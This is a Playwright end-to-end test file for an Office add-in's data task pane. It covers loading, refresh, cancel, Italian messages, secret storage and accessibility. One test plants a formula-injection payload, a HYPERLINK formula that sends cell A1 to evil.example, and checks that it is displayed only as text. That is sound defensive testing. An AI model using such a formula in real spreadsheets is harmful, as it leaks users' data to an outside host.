/**
 * The task pane in the preview, as a user drives it: the demo connection, pulls compared with the sandbox,
 * refresh after a change, cancel, failures in the user's language, Italian, hostile text, reload, where the
 * secret is (not), accessibility in both themes, and the README's screenshots.
 */
import type { Page } from 'playwright-core';
import { de, en, it as italian } from '../../src/i18n/catalog';
import {
  eventually,
  expectAccessible,
  expectClean,
  OFFICE_JS_TELEMETRY,
  openPreview,
  pane,
  previewApi,
  saveScreenshot,
  screenshotPane,
  useApp,
} from './support';

const suite = useApp({ transactions: 3000 });

/** axe inside the pane's frame only (the whole page is checked once per theme). */
const PANE = { include: ['#pane'] };

async function connectDemo(page: Page): Promise<void> {
  await pane(page).getByRole('button', { name: en['pane.connect.demo'] }).click();
  await pane(page).getByText(en['pane.state.online'], { exact: true }).waitFor();
}

async function load(page: Page, table: string, action: 'Load' | 'Refresh' = 'Load'): Promise<void> {
  await pane(page).getByRole('tab', { name: en['pane.tab.data'] }).click();
  await pane(page)
    .getByRole('button', { name: `${action} ${table}`, exact: true })
    .click();
  await pane(page)
    .getByRole('button', { name: `Refresh ${table}`, exact: true })
    .waitFor({ timeout: 60_000 });
  await eventually(
    async () =>
      expect(
        await pane(page)
          .getByRole('button', { name: `Refresh ${table}`, exact: true })
          .isEnabled(),
      ).toBe(true),
    { timeoutMs: 60_000 },
  );
}

async function serviceCount(path: string): Promise<number> {
  const token = await fetch(new URL('auth/token/', suite.app.sandbox.url), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      grant_type: 'client_credentials',
      client_id: suite.app.sandbox.credentials.clientId,
      client_secret: suite.app.sandbox.credentials.clientSecret,
    }),
  });
  const { access_token } = (await token.json()) as { access_token: string };
  const page = await fetch(new URL(`${path}?page_size=1`, suite.app.sandbox.url), { headers: { authorization: `Bearer ${access_token}` } });
  return ((await page.json()) as { count: number }).count;
}

test('demo: connect, load transactions and invoices (row counts as the service has them), refresh after the service changed', async () => {
  const { page } = suite.session;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  await connectDemo(page);
  const preview = previewApi(page);

  await load(page, 'Transactions');
  expect(await preview.tableRowCount('Transactions')).toBe(await serviceCount('transactions/extended/'));
  await load(page, 'Invoices');
  expect(await preview.tableRowCount('Invoices')).toBe(await serviceCount('invoices/'));
  await expect(page.getByTestId('preview-status').textContent()).resolves.toMatch(/Invoices/);

  const before = (await preview.tableRowCount('Transactions')) ?? 0;
  await suite.app.sandbox.addTransaction({ amount: '-12.34', purpose: 'Added while the workbook was open' });
  await load(page, 'Transactions', 'Refresh');
  // The refresh runs after the click returns; on a loaded 2-core machine it can take longer than 30 s (as the loads above).
  await eventually(async () => expect(await preview.tableRowCount('Transactions')).toBe(before + 1), { timeoutMs: 60_000 });
  await expect(pane(page).getByText('changes only').first().isVisible()).resolves.toBe(true);
  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
});

test('by keyboard alone: connect with the demo, reach Data, load a table; choosing a loaded table shows its sheet', async () => {
  const { page } = suite.session;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  const p = pane(page);
  const demo = p.getByRole('button', { name: en['pane.connect.demo'] });
  await demo.waitFor();
  await p.locator('body').click({ position: { x: 1, y: 1 } });
  const focused = () => p.locator(':focus').first();
  // Tab forward until the demo button has the focus, then Enter.
  for (let i = 0; i < 12 && !(await demo.evaluate((el) => el === document.activeElement)); i++) await page.keyboard.press('Tab');
  await expect(demo.evaluate((el) => el === document.activeElement)).resolves.toBe(true);
  await page.keyboard.press('Enter');
  await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
  // The tab list: focus the selected tab, arrows move between tabs, Enter chooses.
  await p.getByRole('tab', { selected: true }).focus();
  for (let i = 0; i < 4 && (await focused().textContent()) !== en['pane.tab.data']; i++) await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Enter');
  const loadPlans = p.getByRole('button', { name: 'Load Plans', exact: true });
  await loadPlans.focus();
  await page.keyboard.press('Enter');
  await p.getByRole('button', { name: 'Refresh Plans', exact: true }).waitFor();
  await eventually(async () => expect(await page.getByTestId('preview-status').textContent()).toMatch(/Sheet: Plans/));

  await load(page, 'Categories');
  await eventually(async () => expect(await page.getByTestId('preview-status').textContent()).toMatch(/Sheet: Categories/));
  await p.getByRole('button', { name: 'Plans', exact: true }).click();
  await eventually(async () =>
    expect(await page.getByTestId('preview-status').textContent()).toMatch(/Sheet: Plans · Table Plans: \d+ rows/),
  );
  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
});

test('cancel mid-pull: the previous table stays and the pane says so', async () => {
  const { page } = suite.session;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  await connectDemo(page);
  const preview = previewApi(page);
  await load(page, 'Transactions');
  const rows = await preview.tableRowCount('Transactions');
  const firstCell = await preview.cellText('Transactions', 1, 0);

  suite.app.sandbox.slowResponses(400);
  await pane(page).getByRole('button', { name: `More for Transactions` }).click();
  await pane(page).getByRole('menuitem', { name: en['pane.data.fullRefresh'] }).click();
  await pane(page).getByRole('progressbar').waitFor();
  await pane(page).getByRole('button', { name: en['pane.progress.cancel'] }).click();
  await pane(page).getByText('Transactions: cancelled.').first().waitFor();
  await expect(pane(page).getByText(en['pane.data.keptTable']).first().isVisible()).resolves.toBe(true);
  expect(await preview.tableRowCount('Transactions')).toBe(rows);
  expect(await preview.cellText('Transactions', 1, 0)).toBe(firstCell);
  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
});

test.each(['light', 'dark'] as const)(
  'a service that asks to wait: the pane says so and for how long, and Cancel ends the wait at once with the table kept (%s)',
  async (theme) => {
    const { page } = suite.session;
    await page.emulateMedia({ reducedMotion: 'reduce' });
    await openPreview(page, suite.app.url, suite.app.sandbox.url, { theme });
    await connectDemo(page);
    const preview = previewApi(page);
    await load(page, 'Transactions');
    const rows = await preview.tableRowCount('Transactions');

    suite.app.sandbox.throttle(30);
    await pane(page).getByRole('button', { name: `More for Transactions` }).click();
    await pane(page).getByRole('menuitem', { name: en['pane.data.fullRefresh'] }).click();
    await pane(page).getByText(en['pane.phase.waiting'], { exact: true }).waitFor();
    await expect(pane(page).getByText('Transactions: the service asked us to wait 30 s').isVisible()).resolves.toBe(true);
    // The running pull's panel (progress, message, Cancel), held still while the pull waits for the service: the
    // state axe checks of a running pull (test/e2e/README.md, "What axe checks").
    await expectAccessible(page, PANE);
    await page.mouse.move(0, 0);
    await screenshotPane(page, `pane-data-waiting-${theme}`);
    const cancelled = Date.now();
    await pane(page).getByRole('button', { name: en['pane.progress.cancel'] }).click();
    await pane(page).getByText('Transactions: cancelled.').first().waitFor({ timeout: 15_000 });
    expect(Date.now() - cancelled).toBeLessThan(15_000); // not the 30 s the service asked for
    expect(await preview.tableRowCount('Transactions')).toBe(rows);
    expectClean(suite.session, [OFFICE_JS_TELEMETRY, /429/]);
  },
);

test('wrong credentials and the edition without the API show their messages; Italian changes the pane and the service', async () => {
  const { page } = suite.session;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  const p = pane(page);
  // First run: no connection yet, so the form is open.
  const englishForm = p.getByRole('form', { name: en['pane.connect.new'] });
  await englishForm.getByLabel(en['pane.connect.field.name']).fill('ACME');
  await englishForm.getByLabel(en['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
  await englishForm.getByLabel(en['pane.connect.field.clientId']).fill('demo-company');
  await englishForm.getByLabel(en['pane.connect.field.secret']).fill('wrong');
  await englishForm.getByRole('button', { name: en['pane.connect.connect'] }).click();
  await p.getByText(en['connect.error.credentials']).waitFor();

  await p.getByRole('tab', { name: en['pane.tab.settings'] }).click();
  await p.getByRole('combobox', { name: en['pane.settings.language'] }).click();
  await p.getByRole('option', { name: 'Italiano' }).click();
  await p.getByRole('tab', { name: italian['pane.tab.connect'] }).click();
  await expect(p.getByRole('button', { name: italian['pane.connect.demo'] }).isVisible()).resolves.toBe(true);

  const basic = suite.app.sandbox.running.credentials.basic;
  await p.getByRole('button', { name: italian['pane.connect.new'] }).click();
  const form = p.getByRole('form', { name: italian['pane.connect.new'] });
  await form.getByLabel(italian['pane.connect.field.name']).fill('Base');
  await form.getByLabel(italian['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
  await form.getByLabel(italian['pane.connect.field.clientId']).fill(basic.clientId);
  await form.getByLabel(italian['pane.connect.field.secret']).fill(basic.clientSecret);
  await form.getByRole('button', { name: italian['pane.connect.connect'] }).click();
  await p.getByText(italian['connect.error.edition']).waitFor();
  // The service's own words, in Italian because the pane sent Accept-Language: it.
  await expect(p.getByTestId('service-said').textContent()).resolves.toContain('Il suo piano non include questa funzione.');
  // The failed state (a message bar with the service's words) is accessible too.
  await expectAccessible(page, { include: ['#pane'] });
  expect(de['connect.error.edition']).not.toBe(italian['connect.error.edition']);
  // The refused token request and the refused read are the browser's own console lines for HTTP 400/403.
  expectClean(suite.session, [OFFICE_JS_TELEMETRY, /^Failed to load resource: the server responded with a status of 40[03] /]);
});

test('a hostile purpose shows as text in the grid, never as a formula', async () => {
  const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
  await suite.app.sandbox.addTransaction({ amount: '-1.00', purpose: hostile });
  const { page } = suite.session;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  await connectDemo(page);
  await load(page, 'Transactions');
  const preview = previewApi(page);
  const cell = await preview.findCell('Transactions', hostile);
  expect(cell).toMatchObject({ valueType: 'String' });
  expect(await preview.cellText('Transactions', cell?.row ?? -1, cell?.col ?? -1)).toBe(hostile);
  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
});

test('a reload keeps the workbook; with "remember" off it asks only for the secret, which is in no setting or cell', async () => {
  const { page } = suite.session;
  const secret = suite.app.sandbox.credentials.clientSecret;
  await openPreview(page, suite.app.url, suite.app.sandbox.url);
  const p = pane(page);
  const form = p.getByRole('form', { name: en['pane.connect.new'] });
  await form.getByLabel(en['pane.connect.field.name']).fill('Our company');
  await form.getByLabel(en['pane.connect.field.baseUrl']).fill(suite.app.sandbox.url);
  await form.getByLabel(en['pane.connect.field.clientId']).fill(suite.app.sandbox.credentials.clientId);
  await form.getByLabel(en['pane.connect.field.secret']).fill(secret);
  await form.getByRole('checkbox', { name: en['pane.connect.remember'] }).uncheck();
  await form.getByRole('button', { name: en['pane.connect.connect'] }).click();
  await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
  await load(page, 'Categories');
  const preview = previewApi(page);
  const rows = await preview.tableRowCount('Categories');
  await preview.saved();

  // Nowhere in the workbook: not in a document setting, not in any cell of any sheet (hidden ones included).
  expect(await preview.settingsJson()).not.toContain(secret);
  expect(await preview.settingsJson()).toContain('Our company');
  expect(await preview.sheetsContaining(secret)).toEqual([]);
  // Nor in the browser's storage, since "remember" was off.
  const frame = page.frameLocator('#pane');
  expect(await frame.locator('body').evaluate(() => JSON.stringify({ ...window.localStorage }))).not.toContain(secret);

  await page.reload();
  await page.waitForFunction(() => window.cashflowPreview !== undefined);
  expect(await preview.tableRowCount('Categories')).toBe(rows);
  const card = p.getByRole('form', { name: 'Our company' });
  await card.getByLabel(en['pane.connect.field.secret']).fill(secret);
  await card.getByRole('button', { name: 'Connect to Our company' }).click();
  await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
  await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
  await expect(p.getByRole('button', { name: 'Refresh Categories', exact: true }).isVisible()).resolves.toBe(true);
  expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
});

describe.each(['light', 'dark'] as const)('%s theme', (theme) => {
  test('every view has no serious or critical accessibility violation; screenshots for the README', async () => {
    const { page } = suite.session;
    await page.setViewportSize({ width: 1280, height: 860 });
    // Fluent's toasts and tabs fade in: axe would measure contrast half-way through an animation.
    await page.emulateMedia({ reducedMotion: 'reduce' });
    await openPreview(page, suite.app.url, suite.app.sandbox.url, { theme });
    const p = pane(page);
    await p.getByRole('button', { name: en['pane.connect.demo'] }).waitFor();
    await expectAccessible(page, PANE);
    await screenshotPane(page, `pane-connect-${theme}`);

    await connectDemo(page);
    await p.getByRole('tab', { name: en['pane.tab.overview'] }).click();
    await p.getByText(en['pane.overview.balanceToday']).waitFor();
    await p.getByRole('figure').or(p.locator('svg')).first().waitFor();
    await expectAccessible(page, PANE);
    await screenshotPane(page, `pane-overview-${theme}`);

    await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
    await expectAccessible(page, PANE);
    suite.app.sandbox.slowResponses(1500);
    await p.getByRole('button', { name: 'Load Transactions', exact: true }).click();
    await p
      .getByText(/page \d+ of \d+/)
      .first()
      .waitFor();
    await screenshotPane(page, `pane-data-pulling-${theme}`);
    // Another table's Load stays usable while this one runs: it waits its turn (one pull at a time), then loads.
    const categories = p.getByRole('button', { name: 'Load Categories', exact: true });
    await categories.click();
    await categories.getByText(en['pane.data.queued']).waitFor();
    // No axe check while pages arrive: the view changes under it (buttons turn disabled and back). The running
    // pull's panel is checked held in a wait (the test of a service that asks to wait); here the settled view.
    suite.app.sandbox.normalResponses();
    await p.getByRole('button', { name: 'Refresh Transactions', exact: true }).waitFor({ timeout: 60_000 });
    await p.getByRole('button', { name: 'Refresh Categories', exact: true }).waitFor({ timeout: 60_000 });
    await p.getByRole('progressbar').waitFor({ state: 'detached' });
    await expectAccessible(page, PANE);
    // The lower part of the Data tab once loaded: the CASHFLOW functions' refresh.
    await p.getByTestId('refresh-functions').scrollIntoViewIfNeeded();
    await page.mouse.move(0, 0);
    await screenshotPane(page, `pane-data-functions-${theme}`);
    await p.getByRole('button', { name: 'More for Transactions' }).click();
    await p.getByRole('menuitem', { name: en['pane.data.filters'] }).click();
    await p.getByRole('form', { name: en['pane.data.filters'] }).waitFor();
    await expectAccessible(page, PANE);

    await p.getByRole('tab', { name: en['pane.tab.settings'] }).click();
    await expectAccessible(page, PANE);
    await page.mouse.move(0, 0);
    await page.keyboard.press('Escape'); // no tab tooltip over the header (Fluent shows it while the tab has focus)
    await p.getByRole('tooltip').waitFor({ state: 'hidden' });
    await screenshotPane(page, `pane-settings-${theme}`);
    await p.getByRole('tab', { name: en['pane.tab.connection'] }).click();
    await expectAccessible(page, PANE);
    // The preview page itself (workbook, tabs, status bar) with the pane beside it.
    await expectAccessible(page);
    if (theme === 'light') {
      // Back to the Data tab, the pointer off the tabs: no tooltip over the header in the README's picture.
      await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
      await page.mouse.move(0, 0);
      await saveScreenshot(page, 'preview-transactions');
    }
    expectClean(suite.session, [OFFICE_JS_TELEMETRY]);
  });
});
